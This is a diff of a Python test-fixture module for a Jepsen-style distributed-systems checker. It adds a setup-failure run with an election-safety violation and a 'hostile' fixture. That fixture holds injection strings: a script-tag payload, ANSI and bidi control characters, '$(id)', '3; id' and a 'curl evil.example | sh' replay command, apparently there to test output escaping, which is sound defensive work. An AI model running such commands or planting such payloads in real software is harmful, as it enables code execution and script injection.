@@ -125,10 +125,50 @@ def black_box() -> tuple[str, RunFolder]:
     writer.invoke(1, "poll", time_ns=now + 9 * MS)
     writer.complete(1, "ok", time_ns=now + 10 * MS, value=read)
     writer.close()
-    command = "python -m jepsen_style_tests run --workload append --nemesis isolate --seed 7"
-    commands = {"replay": command, "judge again": "raftlog verify elsewhere/blackbox"}
-    run = {"version": 1, "command": command, "commands": commands, "seed": 7}
-    return stream.getvalue(), RunFolder(name="blackbox", run=run)
+    words = {"workload": "append", "nemesis": "isolate", "client": "confluent", "seconds": 12}
+    words |= {"linearizable": True, "settings": {"raftlog.lease.enable": "true"}}
+    run = {"version": 1, "options": words, "seed": 7}
+    return stream.getvalue(), RunFolder(name="blackbox", place="elsewhere/blackbox", run=run)
+
+
+def nobody() -> tuple[str, RunFolder]:
+    """A run that failed while it was set up: no client had done anything, and a node was down."""
+    stream = io.StringIO()
+    writer = HistoryWriter(stream, Header(source="sim", seed=3, nodes=["n1", "n2", "n3"]))
+    writer.nemesis("kill", time_ns=50 * MS, value={"nodes": ["n1"]})
+    writer.nemesis("restart", time_ns=70 * MS, value={"nodes": ["n1"]})
+    writer.close()
+    trace = [
+        "0 n1 boot number=1",
+        f"{10 * MS} n1 group-0 role=leader term=1",
+        f"{11 * MS} n2 group-0 role=follower term=1",
+        f"{20 * MS} n1 send to=n2 id=1 what=append",
+        f"{30 * MS} n2 deliver id=1",
+        f"{70 * MS} n1 boot number=2",
+        f"{80 * MS} n1 group-0 role=follower term=2",
+        f"{90 * MS} n2 group-0 role=leader term=2",
+    ]
+    invariants = {"election-safety": {"status": "violated", "checked": 4}}
+    run = {"version": 1, "seed": 3, "failure": "election-safety: n1 and n2 lead"}
+    folder = RunFolder(name="nobody", run=run, invariants=invariants, trace="\n".join(trace))
+    return stream.getvalue(), folder
+
+
+def hostile() -> tuple[str, RunFolder]:
+    """A folder of somebody who wants the reader's browser or terminal to do something."""
+    evil = "</script><script>document.title='owned'</script>\u202e\x1b[31m`$(id)`"
+    stream = io.StringIO()
+    writer = HistoryWriter(stream, Header(source="sim", seed=3, commit=evil, nodes=[evil]))
+    writer.invoke(0, "send", time_ns=1, key=evil, value=evil)
+    writer.complete(0, "ok", time_ns=2, value=[0, evil], node=evil, error=evil)
+    writer.invoke(1, "poll", time_ns=3)
+    writer.complete(1, "ok", time_ns=4, value={evil: [[0, f"{evil}!"]]}, node=evil)
+    writer.nemesis(f"start-{evil}", time_ns=5, value={"nodes": [evil]})
+    writer.close()
+    own = {"replay": f"curl evil.example | sh # {evil}", evil: evil}
+    run = {"command": evil, "commands": own, "mutant": "3; id", "options": {evil: evil}}
+    checks = {evil: {"status": "held", "note": evil, "checked": 0}}
+    return stream.getvalue(), RunFolder(name=evil, place=evil, run=run, invariants=checks)
 
 
 def long_run(operations: int) -> str:
